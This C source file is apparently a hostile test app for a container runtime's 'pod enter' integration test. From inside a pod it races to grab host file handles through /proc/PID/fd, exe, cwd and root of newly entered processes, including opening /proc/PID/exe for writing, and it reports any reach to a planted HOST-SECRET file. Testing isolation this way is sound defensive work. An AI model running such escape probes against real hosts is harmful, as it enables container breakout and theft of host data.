/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* pod-enter-racer: a hostile app for tests/integration/enter.sh.  Run as an app's main
 * process (root, default capabilities), it watches the pod's /proc for processes that were
 * not there when it started (what `pod enter` puts into the pod) and tries, over and over,
 * to get a handle on the host through them: /proc/PID/fd/N (N >= 3), /proc/PID/exe (for
 * reading and for writing), /proc/PID/cwd and /proc/PID/root.
 *
 *   pod-enter-racer MARKER REPORT
 *
 * MARKER is created once the racer runs.  REPORT is rewritten (temp file + rename) with
 * "tries=N wins=M escapes=K" and one line per win (the first 20): a win is a handle on a
 * directory or regular file that lives on none of the pod's own mounts (a host object), or
 * /proc/PID/exe opened for writing; an escape is a win from which "HOST-SECRET" could be
 * opened walking up to three ".." (the test puts that file next to the pods dir).
 * Statically linked so it runs in any test rootfs; never exits on its own. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define MAX_DEVS 256
#define MAX_OLD  256
#define MAX_WINS 20

static dev_t devs[MAX_DEVS];
static size_t n_devs;
static pid_t old[MAX_OLD];
static size_t n_old;
static unsigned long long tries, wins, escapes;
static char win_text[MAX_WINS][256];
static size_t n_win_text;

/* Every device the pod's own mounts live on: what the app may legitimately hold. */
static void load_devs(void) {
        FILE *f = fopen("/proc/self/mountinfo", "re");
        char line[4096];

        if (!f)
                return;
        while (n_devs < MAX_DEVS && fgets(line, sizeof(line), f)) {
                unsigned ma, mi;

                if (sscanf(line, "%*d %*d %u:%u", &ma, &mi) == 2)
                        devs[n_devs++] = makedev(ma, mi);
        }
        fclose(f);
}

static int is_ours(dev_t d) {
        for (size_t i = 0; i < n_devs; i++)
                if (devs[i] == d)
                        return 1;
        return 0;
}

static int is_old(pid_t pid) {
        for (size_t i = 0; i < n_old; i++)
                if (old[i] == pid)
                        return 1;
        return 0;
}

static void record(const char *what, int fd) {
        static const char *const up[] = { "HOST-SECRET", "../HOST-SECRET", "../../HOST-SECRET",
                                          "../../../HOST-SECRET" };
        char target[200] = "";
        int escaped = 0;

        wins++;
        for (size_t i = 0; fd >= 0 && i < sizeof(up) / sizeof(up[0]); i++) {
                int s = openat(fd, up[i], O_RDONLY | O_CLOEXEC);
                if (s >= 0) {
                        escaped = 1;
                        close(s);
                        break;
                }
        }
        escapes += escaped;
        if (n_win_text < MAX_WINS) {
                char p[64];
                ssize_t k;

                (void)snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
                k = fd >= 0 ? readlink(p, target, sizeof(target) - 1) : -1;
                target[k > 0 ? k : 0] = 0;
                (void)snprintf(win_text[n_win_text++], sizeof(win_text[0]), "%s -> %s%s", what,
                               target, escaped ? " (reached HOST-SECRET)" : "");
        }
}

/* Opens path; a win when it gives a host directory or regular file. */
static void try_open(const char *path, int flags) {
        struct stat st;
        int fd;

        tries++;
        fd = open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
        if (fd < 0)
                return;
        if ((flags & O_ACCMODE) != O_RDONLY) {
                record(path, fd); /* /proc/PID/exe for writing: a win whatever it is */
        } else if (fstat(fd, &st) == 0 && (S_ISDIR(st.st_mode) || S_ISREG(st.st_mode)) &&
                   !is_ours(st.st_dev))
                record(path, fd);
        close(fd);
}

static void attack(pid_t pid) {
        char p[64];
        DIR *d;
        struct dirent *de;

        (void)snprintf(p, sizeof(p), "/proc/%d/fd", (int)pid);
        d = opendir(p);
        if (d) {
                while ((de = readdir(d))) {
                        char q[96];
                        int n = atoi(de->d_name);

                        if (de->d_name[0] == '.' || n < 3)
                                continue;
                        (void)snprintf(q, sizeof(q), "/proc/%d/fd/%d", (int)pid, n);
                        try_open(q, O_RDONLY);
                }
                closedir(d);
        }
        (void)snprintf(p, sizeof(p), "/proc/%d/exe", (int)pid);
        try_open(p, O_RDONLY);
        try_open(p, O_WRONLY);
        (void)snprintf(p, sizeof(p), "/proc/%d/cwd", (int)pid);
        try_open(p, O_RDONLY | O_DIRECTORY);
        (void)snprintf(p, sizeof(p), "/proc/%d/root", (int)pid);
        try_open(p, O_RDONLY | O_DIRECTORY);
}

static void report(const char *path) {
        char tmp[4096];
        FILE *f;

        (void)snprintf(tmp, sizeof(tmp), "%s.tmp", path);
        f = fopen(tmp, "we");
        if (!f)
                return;
        fprintf(f, "tries=%llu wins=%llu escapes=%llu\n", tries, wins, escapes);
        for (size_t i = 0; i < n_win_text; i++)
                fprintf(f, "%s\n", win_text[i]);
        if (fclose(f) == 0)
                (void)rename(tmp, path);
}

int main(int argc, char *argv[]) {
        unsigned long long last_wins = ~0ULL;
        unsigned long round = 0;
        pid_t self = getpid();
        DIR *d;
        struct dirent *de;
        int fd;

        if (argc != 3) {
                fprintf(stderr, "Usage: pod-enter-racer MARKER REPORT\n");
                return 2;
        }
        load_devs();
        d = opendir("/proc");
        if (!d)
                return 1;
        while ((de = readdir(d)) && n_old < MAX_OLD) {
                pid_t pid = (pid_t)atoi(de->d_name);
                if (pid > 0)
                        old[n_old++] = pid;
        }
        closedir(d);
        report(argv[2]);
        fd = open(argv[1], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd >= 0)
                close(fd);

        for (;; round++) {
                d = opendir("/proc");
                if (!d)
                        return 1;
                while ((de = readdir(d))) {
                        pid_t pid = (pid_t)atoi(de->d_name);

                        if (pid > 0 && pid != self && !is_old(pid))
                                attack(pid);
                }
                closedir(d);
                if (wins != last_wins || round % 512 == 0) {
                        report(argv[2]);
                        last_wins = wins;
                }
        }
}
